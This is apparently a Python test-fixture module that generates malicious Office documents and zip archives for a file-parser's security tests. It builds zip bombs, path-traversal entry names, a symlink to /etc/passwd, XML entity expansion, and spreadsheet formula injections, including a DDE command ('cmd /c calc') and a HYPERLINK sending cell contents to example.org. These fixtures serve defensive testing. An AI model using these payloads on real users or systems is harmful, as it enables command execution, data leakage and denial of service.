"""Office files and archives that mean harm.

Belongs here: making them. Does not: what becomes of them (`test_hostile_files`).
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator
from pathlib import Path

from tests.documents.office_files import docx, package, paragraph, sheet, sheet_cell, word_cell, word_table, xlsx

_ENTITIES = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'


def _zeros(size: int) -> bytes:
    return b"0" * size


def archive_bomb(path: Path, size: int) -> Path:
    """One file that unpacks to `size` equal bytes."""
    return package(path, {"1.txt": _zeros(size)})


def archive_of_bombs(path: Path, levels: int, width: int, size: int) -> Path:
    """Archives in archives, `width` at each level."""
    data, name = _zeros(size), "0.txt"
    for level in range(levels):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(f"{number}-{name}", data)
        data, name = inner.getvalue(), f"{level}.zip"
    path.write_bytes(data)
    return path


def overlapping(path: Path, count: int, size: int) -> Path:
    """Many names in the directory for the same packed bytes (a bomb without nesting)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", _zeros(size))
        first = archive.infolist()[0]
        for number in range(1, count):
            twin = zipfile.ZipInfo(f"{number}.txt")
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
                setattr(twin, field, getattr(first, field))
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
        archive._didModify = True  # type: ignore[attr-defined]
    return path


def archive_of(path: Path, count: int) -> Path:
    return package(path, {f"{number}.txt": b"a" for number in range(count)})


def paths_that_lead_out(path: Path) -> Path:
    names = ("../../up.txt", "/etc/budget-up.txt", "..\\back.txt", "C:\\x.txt", "nul\n.txt", "a/" * 400 + "long.txt")
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = 0o120777 << 16  # a symbolic link, as Unix archivers write it
    with zipfile.ZipFile(path, "w") as archive:
        for name in names:
            archive.writestr(name, "2026年部门预算\n")
        archive.writestr(link, "/etc/passwd")
    return path


def locked_archive(path: Path) -> Path:
    package(path, {"1.txt": b"secret"})
    data = bytearray(path.read_bytes())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(mark) + place
        struct.pack_into("<H", data, at, struct.unpack_from("<H", data, at)[0] | 1)
    path.write_bytes(data)
    return path


def cut_archive(path: Path) -> Path:
    package(path, {"1.txt": bytes(range(256)) * 40})
    path.write_bytes(path.read_bytes()[:-300])
    return path


def word_bomb(path: Path, size: int) -> Path:
    return docx(path, f"<w:p><w:r><w:t>{'0' * size}</w:t></w:r></w:p>")


def word_with_entities(path: Path) -> Path:
    return docx(path, paragraph("x"), {"word/styles.xml": f"{_ENTITIES}<styles>&b;</styles>"})


def word_table_of(path: Path, rows: int, columns: int) -> Path:
    row = word_cell("1") * columns
    return docx(path, word_table(*[row] * rows))


def word_tables_in_tables(path: Path, depth: int) -> Path:
    body = "<w:tbl><w:tr><w:tc>" * depth + paragraph("x") + "</w:tc></w:tr></w:tbl>" * depth
    return docx(path, body)


def word_wide_cell(path: Path, span: int) -> Path:
    return docx(path, word_table(word_cell("1", f'<w:gridSpan w:val="{span}"/>') * 40))


def sheet_that_claims(path: Path, reference: str) -> Path:
    return xlsx(path, {"1": sheet([sheet_cell(0, 0, "预算")], before=f'<dimension ref="{reference}"/>')})


def two_cells_apart(path: Path) -> Path:
    """A billion rows of none: the first and the last place of a sheet are filled."""
    content = sheet([sheet_cell(0, 0, "1")]).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>'
    )
    return xlsx(path, {"1": content})


def cell_beyond_every_sheet(path: Path) -> Path:
    content = sheet([]).replace(
        "<sheetData></sheetData>",
        '<sheetData><row r="1000000000"><c r="A1000000000"><v>1</v></c></row></sheetData>',
    )
    return xlsx(path, {"1": content})


def merged_sheet(path: Path, merge: str) -> Path:
    return xlsx(path, {"1": sheet([sheet_cell(0, 0, "1") + sheet_cell(0, 1, "2")], [merge])})


def sheet_of(path: Path, rows: int, columns: int) -> Path:
    def filled() -> Iterator[str]:
        for row in range(rows):
            yield "".join(sheet_cell(row, column, "1") for column in range(columns))

    return xlsx(path, {"1": sheet(list(filled()))})


def sheet_with_entities(path: Path) -> Path:
    return xlsx(path, {"1": _ENTITIES + sheet([sheet_cell(0, 0, "1")])})


def sheet_with_formulas(path: Path) -> Path:
    """Texts that begin as formulas: nothing here runs them, a spreadsheet program would."""
    texts = ("=cmd|'/c calc'!A1", '=HYPERLINK("http://example.org?"&A1,"look")', "+A1+cmd|'/c calc'!A0")
    rows = [sheet_cell(row, 0, text, 1) + sheet_cell(row, 1, "12", 1) for row, text in enumerate(texts)]
    return xlsx(path, {"1": sheet(rows)})


def ole(path: Path, stream: str, size: int = 20_000) -> Path:
    """The head of a compound file whose one sector of directory names `stream`, and noise behind."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", head, 48, 0)
    struct.pack_into("<109I", head, 76, *[1] * 109)
    entry = bytearray(128)
    name = stream.encode("utf-16-le") + b"\0\0"
    entry[: len(name)] = name
    struct.pack_into("<H", entry, 64, len(name))
    noise = bytes((number * 7919 + 13) % 251 for number in range(size))
    path.write_bytes(bytes(head + entry.ljust(512, b"\0")) + noise)
    return path
